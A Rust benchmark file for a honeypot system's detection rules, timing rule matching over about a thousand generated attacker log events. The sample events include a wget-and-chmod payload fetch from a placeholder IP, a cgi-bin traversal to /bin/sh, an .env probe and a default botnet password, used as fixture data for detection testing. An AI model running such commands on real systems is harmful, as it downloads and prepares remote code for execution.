//! POLICY_EVAL: the rules that ship over a day's worth of events, in process.

use std::hint::black_box;
use std::path::Path;

use decnet::model::Log;
use decnet::rules::Rules;
use shakedown::Result;
use shakedown::workbook::Sampler;

use super::{ensure, runtime};

/// Events of a sample.
pub(super) const EVENTS: usize = 1_026;

/// The rules in `fixtures/decnet/rules`.
pub(super) fn rules() -> Result<Rules> {
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/decnet/rules");
    Ok(Rules::of_directory(&directory)?)
}

/// A line of JSON a log, as a collector would send it. About one in three
/// matches a rule, as far as the mix of services allows.
pub(crate) fn event(number: usize) -> String {
    let service = ["ssh", "http", "telnet", "ftp", "smb", "rdp"][number % 6];
    let fields = match (service, number / 6 % 5) {
        ("http", 0) => r#"{"method":"GET","path":"/.env","user_agent":"zgrab/0.x"}"#,
        ("http", 1) => r#"{"method":"POST","path":"/cgi-bin/../../bin/sh","user_agent":"-"}"#,
        ("http", _) => r#"{"method":"GET","path":"/index.html","user_agent":"Mozilla/5.0"}"#,
        ("ssh" | "telnet", 0) => r#"{"username":"root","password":"xc3511"}"#,
        ("ssh" | "telnet", 1) => r#"{"command":"cd /tmp; wget http://203.0.113.7/a; chmod +x a"}"#,
        ("ssh" | "telnet", _) => r#"{"username":"eve","password":"correct horse"}"#,
        ("ftp", 0) => r#"{"username":"anonymous","password":"a@b"}"#,
        (_, 0) => r#"{"username":"guest"}"#,
        _ => r"{}",
    };
    let kind = if number.is_multiple_of(7) {
        "connection"
    } else {
        "login_attempt"
    };
    format!(
        "{{\"decky\":\"decky-{}\",\"service\":\"{service}\",\"event_type\":\"{kind}\",\
         \"attacker_ip\":\"203.0.113.{}\",\"raw_line\":\"{service}: event {number}\",\"fields\":{fields}}}",
        number % 12,
        number % 251
    )
}

/// The events as they are when they come out of the database.
fn events() -> Result<Vec<Log>> {
    use decnet::api::App;
    use decnet::config::Config;
    use decnet::intake::{Shape, parse};
    use decnet::model::{LogFilter, Timestamp};

    let directory = shakedown::fixtures::scratch();
    let path = directory.join("events.db").display().to_string();
    let config = Config::from_lookup(&|name| match name {
        "DECNET_DEVELOPER" => Some("true".to_owned()),
        "DECNET_DB_URL" => Some(path.clone()),
        "DECNET_BCRYPT_COST" => Some("4".to_owned()),
        _ => None,
    })?;
    let lines: Vec<String> = (0..EVENTS).map(event).collect();
    runtime(1)?.block_on(async {
        let app = App::open(config).await?;
        let logs = parse(lines.join("\n").as_bytes(), Shape::Lines, Timestamp::now())?;
        app.repository().append(logs).await?;
        let limit = u32::try_from(EVENTS)?;
        let logs = app
            .repository()
            .logs_after(0, LogFilter::default(), limit)
            .await?;
        app.close().await;
        ensure(logs.len() == EVENTS, || format!("{} events", logs.len()))?;
        Ok(logs)
    })
}

pub(super) fn policy_eval(phase: &mut Sampler) -> Result {
    let rules = rules()?;
    ensure(rules.iter().count() == 28, || "not 28 rules".to_owned())?;
    let events = events()?;
    let matches = || -> usize {
        events
            .iter()
            .map(|event| rules.matches(event).count())
            .sum()
    };
    let expected = matches();
    ensure(expected > EVENTS / 10, || {
        format!("only {expected} matches")
    })?;
    phase.each(|watch| {
        let found = watch.time(|| black_box(matches()));
        ensure(found == expected, || {
            format!("{found} matches, not {expected}")
        })
    })
}
